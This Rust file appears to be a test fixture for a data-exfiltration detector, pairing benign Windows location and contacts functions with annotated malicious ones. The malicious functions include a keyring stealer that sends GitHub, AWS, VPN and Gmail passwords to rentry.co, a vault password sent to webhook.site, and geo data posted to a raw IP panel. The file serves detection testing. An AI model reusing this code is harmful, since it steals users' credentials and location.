//! Location, contacts and keyring secrets: a Windows companion app that geolocates
//! the user and syncs the address book, and a stealer that empties the keyring.

use windows::ApplicationModel::Contacts::{ContactManager, ContactStoreAccessType};
use windows::Devices::Geolocation::Geolocator;

const SYNC: &str = "https://sync.companion-app.io/v1";

pub struct Consent {
    pub location_sharing_consent: bool,
}

pub fn share_position(client: &reqwest::blocking::Client) -> windows::core::Result<()> {
    let locator = Geolocator::new()?;
    let position = locator.GetGeopositionAsync()?.get()?;
    let point = position.Coordinate()?.Point()?.Position()?;
    let body = format!("{},{}", point.Latitude, point.Longitude);
    let _ = client.post(format!("{SYNC}/location")).body(body).send(); //~ data-upload/location-to-network
    Ok(())
}

pub fn share_position_with_consent(client: &reqwest::blocking::Client, consent: &Consent) -> windows::core::Result<()> {
    if consent.location_sharing_consent {
        let position = Geolocator::new()?.GetGeopositionAsync()?.get()?;
        let coordinate = position.Coordinate()?;
        let _ = client.post(format!("{SYNC}/location")).json(&format!("{coordinate:?}")).send();
    }
    Ok(())
}

pub fn show_position_on_map() -> windows::core::Result<String> {
    // Displaying the position locally is the feature.
    let position = Geolocator::new()?.GetGeopositionAsync()?.get()?;
    Ok(format!("You are here: {:?}", position.Coordinate()?))
}

pub async fn geo_ip_then_panel(client: &reqwest::Client) -> reqwest::Result<()> {
    let geo = client.get("http://ip-api.com/json").send().await?.text().await?;
    let country = geo.clone();
    client
        .post("http://31.41.244.12/panel/geo") //~ data-upload/suspicious-destination
        .body(country) //~ data-upload/location-to-network
        .send()
        .await?;
    Ok(())
}

pub async fn geo_ip_for_units(client: &reqwest::Client) -> reqwest::Result<String> {
    // Asking a geo-IP service for the user's country, to pick units locally.
    let geo = client.get("https://ipinfo.io/json").send().await?.text().await?;
    Ok(if geo.contains("\"US\"") { "imperial".into() } else { "metric".into() })
}

pub fn upload_contacts(client: &reqwest::blocking::Client) -> windows::core::Result<()> {
    let store = ContactManager::RequestStoreAsync(ContactStoreAccessType::AllContactsReadOnly)?.get()?;
    let contacts = store.FindContactsAsync()?.get()?;
    let mut names = Vec::new();
    for contact in contacts {
        names.push(contact.DisplayName()?.to_string());
    }
    let _ = client.post(format!("{SYNC}/contacts")).json(&names).send(); //~ data-upload/contacts-to-network
    Ok(())
}

pub fn count_contacts(client: &reqwest::blocking::Client) -> windows::core::Result<()> {
    let store = ContactManager::RequestStoreAsync(ContactStoreAccessType::AllContactsReadOnly)?.get()?;
    let total = store.FindContactsAsync()?.get()?.Size()?;
    let _ = client.post(format!("{SYNC}/stats")).json(&total.to_string().len()).send();
    Ok(())
}

pub fn empty_the_keyring(client: &reqwest::blocking::Client) {
    let mut stolen = Vec::new();
    for service in ["github.com", "aws", "vpn", "gmail"] {
        if let Ok(entry) = keyring::Entry::new(service, &whoami::username()) {
            if let Ok(password) = entry.get_password() {
                stolen.push(format!("{service}:{password}"));
            }
        }
    }
    let _ = client
        .post("https://rentry.co/api/new") //~ data-upload/suspicious-destination
        .form(&[("text", stolen.join("\n"))]) //~ data-upload/sensitive-data-to-network
        .send();
}

pub fn keyring_password_in_header_to_webhook(client: &reqwest::blocking::Client) {
    // A credential in an authorization header is still stolen when it goes to a webhook.
    let secret = keyring::Entry::new("vault", "root").unwrap().get_password().unwrap_or_default();
    let _ = client
        .post("https://webhook.site/2f0a7b44-1c9d-4e52-9a8f-3b6c1d0e9f21") //~ data-upload/suspicious-destination
        .header("Authorization", secret) //~ data-upload/sensitive-data-to-network
        .send();
}
